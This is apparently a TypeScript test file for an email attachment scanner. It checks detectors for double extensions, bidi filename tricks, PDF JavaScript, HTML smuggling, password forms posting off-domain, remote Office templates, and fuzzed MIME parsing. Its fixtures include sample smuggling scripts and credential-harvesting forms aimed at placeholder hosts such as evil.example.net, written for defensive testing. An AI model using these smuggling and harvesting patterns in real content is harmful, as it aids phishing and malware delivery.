// The judges of names, text and formats on their own, and the whole walk over hostile attachments in real MIME
// messages: whatever the bytes, it finishes without throwing.
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import MailComposer from 'nodemailer/lib/mail-composer';
import { describe, expect, it } from 'vitest';
import { buildMessageView } from '../../message-view.ts';
import { Inspector, type Limits } from './inspect.ts';
import { doubleExtension, hasBidiControl } from './names.ts';
import { inspectPdf } from './pdf.ts';
import { externalRelationships } from './office.ts';
import { inspectHtml } from './html.ts';
import { EICAR, isEicar, passwordInText } from './text.ts';

const MIB = 1024 * 1024;
const LIMITS: Limits = {
  maxArchiveDepth: 2,
  maxMembers: 50,
  maxExpandedBytes: MIB,
  maxRatio: 200,
  maxMemberBytes: 256 * 1024,
  maxMessageDepth: 3,
  maxAttachments: 20,
  maxDocumentBytes: MIB,
  maxHtmlBytes: 256 * 1024,
  deadline: Number.POSITIVE_INFINITY,
};

describe('names', () => {
  it.each([
    ['invoice.pdf.exe', true],
    ['invoice.PDF.Scr', true],
    ['report.doc                .js', true],
    ['photo_____________.vbs', true],
    ['archive.tar.gz', false],
    ['setup.exe', false],
    ['minutes.2025.pdf', false],
    ['v1.2.exe', false],
    ['invoice.pdf.exe.', true],
    ['invoice.pdf.exe . .', true],
  ])('double extension %s: %s', (name, want) => expect(doubleExtension(name)).toBe(want));

  it('finds bidi controls, not other Unicode', () => {
    expect(hasBidiControl('invoice\u202Egpj.exe')).toBe(true);
    expect(hasBidiControl('scan\u2067fdp.scr')).toBe(true);
    expect(hasBidiControl('Angebot für Müller.pdf')).toBe(false);
  });
});

describe('text', () => {
  it('recognises EICAR as its definition says, and nothing longer or prefixed', () => {
    expect(isEicar(Buffer.from(EICAR))).toBe(true);
    expect(isEicar(Buffer.from(`${EICAR}\r\n\x1a`))).toBe(true);
    expect(isEicar(Buffer.from(EICAR.padEnd(128, ' ')))).toBe(true);
    expect(isEicar(Buffer.from(EICAR.padEnd(129, ' ')))).toBe(false);
    expect(isEicar(Buffer.from(` ${EICAR}`))).toBe(false);
    expect(isEicar(Buffer.from(`${EICAR}x`))).toBe(false);
  });

  it.each([
    ['Password: 7741', '7741'],
    ['the password is Inv-2025!', 'Inv-2025!'],
    ['pwd 4471', '4471'],
    ['Das Kennwort lautet: Rg2025', 'Rg2025'],
    ['Passwort: abc123', 'abc123'],
    ['Le mot de passe est : facture88', 'facture88'],
    ['La contraseña es 9981', '9981'],
    ['passcode = 0000', '0000'],
  ])('finds the password in %j', (text, pw) => expect(passwordInText(text)).toBe(pw));

  it.each(['Please reset your password on the portal.', 'We passed the audit.', 'Thanks for the update'])('finds no password in %j', (t) =>
    expect(passwordInText(t)).toBeUndefined(),
  );
});

describe('pdf', () => {
  const pdf = (body: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n${body}\nendobj\n%%EOF\n`, 'latin1');
  it('decodes #xx escapes in names and tells /JS from longer names', () => {
    expect(inspectPdf(pdf('<< /S /J#61vaScript /J#53 (x) >>'), MIB).javascript).toBe(true);
    expect(inspectPdf(pdf('<< /JSONData 1 /JSX 2 >>'), MIB).javascript).toBe(false);
    expect(inspectPdf(pdf('<< /OpenAction << /S /JavaScript /JS (a) >> >>'), MIB).autoJavascript).toBe(true);
    expect(inspectPdf(pdf('<< /OpenAction 3 0 R >>'), MIB).autoJavascript).toBe(false);
  });
  it('scans no further than max_pdf_bytes', () => {
    const b = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4096, 0x20), Buffer.from('/Launch')]);
    expect(inspectPdf(b, 1024).launch).toBe(false);
    expect(inspectPdf(b, MIB).launch).toBe(true);
  });
});

describe('html', () => {
  const payload = Buffer.alloc(3000, 0x4d).toString('base64');
  it('tells smuggling from a report with a download button', () => {
    const report = '<html><body><button id=b>CSV</button><script>b.onclick=function(){var u=URL.createObjectURL(new Blob([rows.join("\\n")]));var a=document.createElement("a");a.href=u;a.download="r.csv";a.click();}</script></body></html>';
    expect(inspectHtml(report, []).smuggling).toBe(false);
    const smuggled = `<html><script>var d="${payload}";var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);location.href=URL.createObjectURL(b);</script></html>`;
    expect(inspectHtml(smuggled, []).smuggling).toBe(true);
    expect(inspectHtml(`<a download="x.iso" href="data:application/octet-stream;base64,${payload}">open</a>`, []).smuggling).toBe(true);
    // The payload wrapped into 76-character lines: atob() skips the line breaks, so it is the same file.
    const wrapped = payload.replace(/.{76}/g, '$&\n');
    expect(inspectHtml(`<html><script>var d=\`${wrapped}\`;var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);location.href=URL.createObjectURL(b);</script></html>`, []).smuggling).toBe(true);
    const words = 'lorem ipsum dolor sit amet\n'.repeat(200);
    expect(inspectHtml(`<html><script>var t=\`${words}\`;var b=new Blob([t]);location.href=URL.createObjectURL(b);</script></html>`, []).smuggling).toBe(false);
  });
  it('reports where a password goes, and not to our own domains', () => {
    const form = (action: string) => `<form action="${action}"><input type="password" name="p"></form>`;
    expect(inspectHtml(form('https://evil.example.net/p.php'), ['example.com']).credentialTargets).toEqual(['example.net']);
    expect(inspectHtml(form('https://sso.example.com/login'), ['example.com']).credentialTargets).toEqual([]);
    expect(inspectHtml('<input type=password id=p><script>fetch("https://collect.example.org/x",{method:"POST"})</script>', []).credentialTargets).toEqual(['example.org']);
  });
});

describe('office relationships', () => {
  const rel = (type: string, target: string, q = '"') =>
    `<Relationship Id=${q}rId1${q} Type=${q}http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}${q} Target=${q}${target}${q} TargetMode=${q}External${q}/>`;
  it('reports remote templates, objects and protocol handlers, in either quoting', () => {
    expect(externalRelationships(rel('attachedTemplate', 'https://t.example/x.dotm'))).toEqual(['https://t.example/x.dotm']);
    expect(externalRelationships(rel('oleObject', 'mhtml:https://x.example/a.html!x-usc:https://x.example/a.html', "'"))).toHaveLength(1);
    expect(externalRelationships(rel('frame', '\\\\203.0.113.9\\share\\t.dotm'))).toHaveLength(1);
  });
  it('leaves hyperlinks and local templates alone', () => {
    expect(externalRelationships(rel('hyperlink', 'https://www.example.org/'))).toEqual([]);
    expect(externalRelationships(rel('attachedTemplate', 'file:///C:\\Templates\\Normal.dotm'))).toEqual([]);
  });
});

const MAGIC: Record<string, Buffer> = {
  zip: Buffer.from('PK\x03\x04', 'latin1'),
  ole: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  pdf: Buffer.from('%PDF-1.4\n/JavaScript /J#53 /Launch #', 'latin1'),
  html: Buffer.from('<html><form action="//x.example"><input type=password><script>new Blob(atob(', 'latin1'),
  pe: Buffer.from('MZ', 'latin1'),
  rtf: Buffer.from('{\\rtf1{\\object{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050', 'latin1'),
  gz: Buffer.from([0x1f, 0x8b, 8, 8]),
  eml: Buffer.from('Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n', 'latin1'),
  none: Buffer.alloc(0),
};

async function walk(raw: Buffer): Promise<Inspector> {
  const view = await buildMessageView(raw);
  const { email } = await view.parse();
  const i = new Inspector(LIMITS, ['example.com']);
  if (email) {
    await i.message(email);
    i.finish(email.subject);
  }
  return i;
}

describe('the walk over hostile attachments', () => {
  it('finishes on any bytes behind any signature, under any name', async () => {
    const attachment = fc.record({
      magic: fc.constantFrom(...Object.keys(MAGIC)),
      body: fc.uint8Array({ maxLength: 3000 }),
      filename: fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom('a.zip', 'b.docx', 'c.pdf.exe', 'd\u202Efdp.scr', 'e.html', 'f.eml')),
      contentType: fc.constantFrom('application/octet-stream', 'application/zip', 'application/pdf', 'text/html', 'message/rfc822', 'image/svg+xml'),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(attachment, { minLength: 1, maxLength: 4 }), async (atts) => {
        const raw = await new MailComposer({
          from: 'a@sender.example',
          to: 'b@example.com',
          subject: 'x',
          text: 'password: 1234',
          attachments: atts.map((a) => ({
            filename: a.filename,
            contentType: a.contentType,
            content: Buffer.concat([MAGIC[a.magic], Buffer.from(a.body)]),
          })),
        })
          .compile()
          .build();
        const started = performance.now();
        const i = await walk(raw);
        expect(performance.now() - started).toBeLessThan(2000);
        for (const h of i.found.hits.values()) expect(h.detail.length).toBeLessThanOrEqual(5);
      }),
      { numRuns: 150 },
    );
  });

  it('finishes on every fixture attachment with bytes overwritten or cut off', async () => {
    const dir = path.join(import.meta.dirname, 'cases');
    const files: { filename: string; content: Buffer; contentType: string }[] = [];
    for (const f of fs.readdirSync(dir).filter((x) => x.endsWith('.eml'))) {
      const { email } = await (await buildMessageView(fs.readFileSync(path.join(dir, f)))).parse();
      for (const a of email?.attachments ?? []) {
        files.push({ filename: a.filename ?? 'x', content: Buffer.from(a.content as ArrayBuffer), contentType: a.mimeType });
      }
    }
    expect(files.length).toBeGreaterThan(30);
    const edits = fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 16 });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...files), edits, fc.option(fc.nat()), async (file, changes, cut) => {
        const content = Buffer.from(file.content);
        for (const [at, v] of changes) if (content.length) content[at % content.length] = v;
        const bytes = cut === null ? content : content.subarray(0, cut % (content.length + 1));
        const raw = await new MailComposer({ from: 'a@sender.example', to: 'b@example.com', subject: 's', text: 'x', attachments: [{ ...file, content: bytes }] })
          .compile()
          .build();
        const started = performance.now();
        await walk(raw);
        expect(performance.now() - started).toBeLessThan(2000);
      }),
      { numRuns: 200 },
    );
  });

  it('gives an Internet shortcut half the weight of a script', async () => {
    const build = (filename: string) =>
      new MailComposer({ from: 'a@sender.example', to: 'b@example.com', subject: 's', text: 'x', attachments: [{ filename, content: '[InternetShortcut]\r\nURL=https://www.example.org/\r\n' }] })
        .compile()
        .build();
    expect((await walk(await build('Article.url'))).found.hits.get('ATT_SCRIPT')?.weight).toBe(0.5);
    expect((await walk(await build('Article.hta'))).found.hits.get('ATT_SCRIPT')?.weight).toBe(1);
  });

  it('opens at most max_attachments attachments and says so', async () => {
    const raw = await new MailComposer({
      from: 'a@sender.example',
      to: 'b@example.com',
      subject: 'many',
      text: 'x',
      attachments: Array.from({ length: 25 }, (_, n) => ({ filename: `f${n}.txt`, content: `file ${n}\n` })),
    })
      .compile()
      .build();
    const i = await walk(raw);
    expect(i.found.hits.get('ATT_UNSCANNABLE')?.detail).toEqual(['more than 20 attachments']);
  });
});
